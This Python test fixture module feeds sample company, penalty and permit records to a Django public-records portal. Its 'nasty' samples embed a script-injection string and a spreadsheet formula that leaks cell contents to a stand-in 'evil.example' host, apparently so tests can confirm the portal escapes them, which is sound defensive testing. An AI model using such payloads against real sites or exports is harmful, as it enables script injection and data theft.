"""Read-models as the portal may meet them, plain and nasty, and a client that is served them."""

import os
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path
from types import SimpleNamespace

import django
import pytest
from django.test import Client

from xinheng.core.values import Bilingual
from xinheng.publication.pages import (
    EventLine,
    Fact,
    Hit,
    HomePage,
    LegalBasis,
    OrganisationPage,
    PublicPeriod,
    RecordGroup,
    RecordPage,
    RecordSummary,
    SearchPage,
    VersionLine,
)

CHECKOUT = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 21, 22, 0, tzinfo=UTC)

CODE = "91990106MA0XY01K2N"
NASTY_CODE = "93990823MA70ABCD70"
EMPTY_CODE = "53990000500320027M"
SHOP_CODE = "92990802MA7CQX010W"
MANY_CODE = "91990000MA00000001"

NASTY = "<script>alert(1)</script>\"'&"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
LONG_NAME = "明澜市云台区" + "国际精密智能装备与新能源材料联合研究开发" * 4 + "（集团）股份有限公司"
RARE_NAME = "𠮷㙓䶮𬭚科技有限公司"

PENALTY = Bilingual("行政处罚", "Administrative penalties")
LICENCE = Bilingual("行政许可", "Permits")
COMPANY = Bilingual("有限责任公司", "Limited liability company")
ACTIVE = Bilingual("存续", "Active")
BASIS = LegalBasis(
    Bilingual("固体废物污染环境防治法", "Law on Solid Waste"), Bilingual("第一百零二条", "art. 102"), True
)
UNSURE = LegalBasis(Bilingual("国办发〔2025〕22号", "State Council Office Doc. (2025) No. 22"), None, False)
PERIOD = PublicPeriod(date(2026, 5, 12), date(2027, 5, 11), date(2026, 8, 12), 170, 534, 252, (UNSURE,))


@cache
def build_assets() -> None:
    """Bring the assets up to date; says what failed instead of leaving the tests to guess."""
    command = [sys.executable, str(CHECKOUT / "frontend" / "assets.py")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if done.returncode:
        pytest.exit(f"The assets cannot be built, and the portal's tests need them.\n{done.stderr}", returncode=2)


build_assets()
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "xinheng.config.settings")
django.setup()

PENALTY_RECORD = RecordSummary(
    id="r-penalty-1",
    item="penalty",
    item_label=PENALTY,
    subject=CODE,
    subject_name="云台精工装备有限公司",
    title="未按规定处置一般工业固体废物",
    document_number="明环罚〔2026〕18号",
    body_name="明澜市生态环境局",
    decided_on=date(2026, 5, 12),
    content="罚款 8.6 万元，责令限期改正",
    severity=Bilingual("一般失信", "General"),
    state="public",
    state_label=Bilingual("公示中", "On display"),
    state_tone="info",
    valid_to=None,
    period=PERIOD,
)
LICENCE_RECORD = replace(
    PENALTY_RECORD,
    id="r-licence-1",
    item="licence",
    item_label=LICENCE,
    title="排污许可证",
    document_number="明环许〔2024〕77号",
    content="",
    decided_on=date(2024, 4, 9),
    severity=None,
    state="valid",
    state_label=Bilingual("有效", "In force"),
    state_tone="ok",
    valid_to=date(2029, 4, 8),
    period=None,
)
EXPIRING = replace(
    LICENCE_RECORD,
    id="r-licence-2",
    title="取水许可",
    document_number="云水许〔2021〕3号",
    body_name="云台区水务局",
    state="expiring",
    state_label=Bilingual("28 天后到期", "Expires in 28 days"),
    state_tone="warn",
    valid_to=date(2026, 12, 20),
)
LONG_TERM = replace(LICENCE_RECORD, id="r-licence-3", title="特种设备生产许可", valid_to=None)
ENDLESS = replace(
    PENALTY_RECORD,
    id="r-penalty-2",
    title="安全生产培训记录不完整",
    document_number="明应急罚〔2026〕7号",
    severity=None,
    period=PublicPeriod(date(2026, 9, 1), None, None, None, 0, None, ()),
)
NASTY_RECORD = replace(
    PENALTY_RECORD,
    id="r-nasty-1",
    subject=NASTY_CODE,
    subject_name=f"{LONG_NAME}{NASTY}",
    title=f"{NASTY}{FORMULA}",
    document_number=f"{NASTY}〔2026〕1号",
    body_name=f"{NASTY}局",
    content="长" * 900 + NASTY,
)


def group(item: str, label: Bilingual, *records: RecordSummary, total: int | None = None) -> RecordGroup:
    more = total is not None and total > len(records)
    return RecordGroup(item, label, len(records) if total is None else total, records, "20260512-aa" if more else None)


ORGANISATION = OrganisationPage(
    code=CODE,
    name="云台精工装备有限公司",
    type_label=COMPANY,
    status_label=ACTIVE,
    status_tone="ok",
    former_names=("云台精密机械厂", "明澜云台机械有限公司"),
    facts=(
        Fact(
            "registration_authority",
            Bilingual("登记机关", "Registered with"),
            Bilingual(*["云台区市场监督管理局"] * 2),
        ),
        Fact("established_on", Bilingual("成立日期", "Established"), Bilingual("2014-03-18", "2014-03-18")),
        Fact(
            "legal_representative",
            Bilingual("法定代表人", "Legal representative"),
            Bilingual("周**", "周**"),
            masked=True,
        ),
    ),
    groups=(
        group("penalty", PENALTY, PENALTY_RECORD, ENDLESS),
        group("licence", LICENCE, LICENCE_RECORD, EXPIRING, LONG_TERM, total=12),
    ),
    events=(
        EventLine(
            date(2019, 7, 1),
            Bilingual("更名", "Renamed"),
            Bilingual(*["云台精密机械厂 → 云台精工装备有限公司"] * 2),
        ),
        EventLine(date(2014, 3, 18), Bilingual("设立", "Established"), Bilingual("", "")),
    ),
    individual_business=False,
    successor=None,
    as_of=NOW,
    sources=23,
)
EMPTY = replace(
    ORGANISATION,
    code=EMPTY_CODE,
    name=RARE_NAME,
    status_label=Bilingual("注销", "Deregistered"),
    status_tone="mute",
    former_names=(),
    groups=(group("penalty", PENALTY), group("licence", LICENCE)),
    events=(),
    successor=CODE,
    sources=1,
)
SHOP = replace(EMPTY, code=SHOP_CODE, name="云台区百味小吃店", facts=(), individual_business=True, successor=None)
NASTY_ORGANISATION = replace(
    ORGANISATION,
    code=NASTY_CODE,
    name=f"{LONG_NAME}{NASTY}",
    former_names=(FORMULA, NASTY),
    facts=(Fact("scope", Bilingual(NASTY, NASTY), Bilingual(NASTY * 20, FORMULA * 20), mono=True),),
    groups=(group("penalty", Bilingual(NASTY, NASTY), NASTY_RECORD), group("licence", LICENCE, NASTY_RECORD)),
    events=(EventLine(date(2020, 1, 1), Bilingual(NASTY, NASTY), Bilingual(FORMULA, FORMULA)),),
)
MANY = replace(
    ORGANISATION,
    code=MANY_CODE,
    name="明澜市商业银行股份有限公司",
    groups=(
        group("penalty", PENALTY, *[replace(PENALTY_RECORD, id=f"r-p-{n}") for n in range(25)], total=40),
        group("licence", LICENCE, *[replace(LICENCE_RECORD, id=f"r-l-{n}") for n in range(25)], total=4210),
    ),
)

RECORD = RecordPage(
    summary=PENALTY_RECORD,
    facts=(
        Fact(
            "document_number",
            Bilingual("行政处罚决定书文号", "Decision number"),
            Bilingual(*["明环罚〔2026〕18号"] * 2),
        ),
        Fact("penalty_kinds", Bilingual("处罚类别", "Kinds of penalty"), Bilingual("罚款", "Fine")),
        Fact("fine", Bilingual("罚款金额", "Fine"), Bilingual("8.6 万元", "8.6 × 10,000 yuan")),
        Fact(
            "body_code",
            Bilingual("处罚机关代码", "Code of the body"),
            Bilingual(*["11990000000000001A"] * 2),
            mono=True,
        ),
        Fact(
            "violation",
            Bilingual("违法事实", "Facts"),
            Bilingual(*["2026 年 4 月 2 日检查发现，" + "露天堆放未采取防护措施，" * 8] * 2),
        ),
    ),
    basis=(BASIS, UNSURE),
    versions=(
        VersionLine(
            2,
            NOW,
            True,
            (Bilingual("处罚内容", "Decision"), Bilingual("备注", "Remark")),
            "b-20261121-0007",
            31,
        ),
        VersionLine(1, datetime(2026, 5, 14, 1, 30, tzinfo=UTC), False, (), "b-20260514-0002", 12),
    ),
    source_agency="明澜市生态环境局",
    source_agency_code="11990000000000001A",
    source_row=33,
    source_sheet="5月",
    edition="2018",
    digest="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    reported_on=date(2026, 5, 14),
    reported_in_time=True,
    linked=(LICENCE_RECORD,),
    as_of=NOW,
)
NASTY_PAGE = replace(
    RECORD,
    summary=NASTY_RECORD,
    facts=(Fact("x", Bilingual(NASTY, NASTY), Bilingual(FORMULA, NASTY * 30)),),
    versions=(VersionLine(1, NOW, True, (Bilingual(NASTY, NASTY),), NASTY, 1),),
    source_agency=NASTY,
    source_sheet=NASTY,
    edition=NASTY,
    digest=NASTY,
    reported_in_time=False,
    linked=(),
)
SHOP_RECORD = replace(
    RECORD,
    summary=replace(PENALTY_RECORD, id="r-shop", subject=SHOP_CODE, period=None),
    linked=(),
    basis=(),
    source_sheet=None,
)
LAST_DAY = replace(RECORD, summary=replace(PENALTY_RECORD, id="r-last", period=replace(PERIOD, days_left=0, share=998)))

HOME = HomePage(3012, 40128, 23, NOW, (PENALTY_RECORD, LICENCE_RECORD, ENDLESS), NOW)
HOME_EMPTY = HomePage(0, 0, 0, None, (), NOW)


def hit(code: str, name: str, matched_by: str, *pieces: tuple[str, bool]) -> Hit:
    return Hit(code, name, pieces, matched_by, COMPANY, ACTIVE, "ok")


HITS = (
    hit(CODE, "云台精工装备有限公司", "name", ("云台", True), ("精工装备有限公司", False)),
    hit(CODE, "明澜轴承有限公司", "former", ("老", False), ("云台", True), ("轴承厂", False)),
    hit(CODE, "某某有限公司", "old_code", ("610800100016090", True)),
    hit(CODE, "按代码有限公司", "code", (CODE, True)),
    hit(NASTY_CODE, f"{LONG_NAME}{NASTY}", "name", (f"{LONG_NAME}", False), (NASTY, True)),
)
HINT = Bilingual("最后一位校验码不对，请核对。", "The last character, the check, does not fit. Please compare.")
RESULTS = {
    "云台": SearchPage("云台", None, HITS, (PENALTY_RECORD,), None, "1-10-AA"),
    CODE: SearchPage(CODE, CODE, (), (), None, None),
    "9199010": SearchPage("9199010", None, (), (), HINT, None),
    NASTY: SearchPage(NASTY, None, HITS[-1:], (), Bilingual(NASTY, NASTY), None),
}


class FakeSelectors:
    """Answers like publication's selectors, from the samples, and remembers what it was asked."""

    def __init__(self) -> None:
        self.asked: list[tuple[object, ...]] = []
        self.first_page = HOME

    def home(self, ctx: object) -> HomePage:
        return self.first_page

    def search(self, ctx: object, text: str, after: str | None = None) -> SearchPage:
        self.asked.append(("search", text, after))
        return RESULTS.get(text, SearchPage(text, None, (), (), None, None))

    def organisation(
        self, ctx: object, code: str, item: str | None = None, after: str | None = None
    ) -> OrganisationPage | None:
        self.asked.append(("organisation", code, item, after))
        pages = {page.code: page for page in (ORGANISATION, EMPTY, SHOP, NASTY_ORGANISATION, MANY)}
        page = pages.get(code)
        if page is None or item is None:
            return page
        return replace(page, groups=tuple(each for each in page.groups if each.item == item))

    def record(self, ctx: object, record_id: str) -> RecordPage | None:
        pages = {page.summary.id: page for page in (RECORD, NASTY_PAGE, SHOP_RECORD, LAST_DAY)}
        return pages.get(record_id)


def serve_samples(monkeypatch: pytest.MonkeyPatch) -> FakeSelectors:
    """Let the portal's views read the samples."""
    selectors = FakeSelectors()
    monkeypatch.setattr("xinheng.portal.views.selectors", selectors)
    monkeypatch.setattr("xinheng.portal.views.visitor", lambda: SimpleNamespace(now=NOW))
    return selectors


def client() -> Client:
    """A visitor's browser without scripts; errors of the server come back as pages."""
    return Client(raise_request_exception=False)
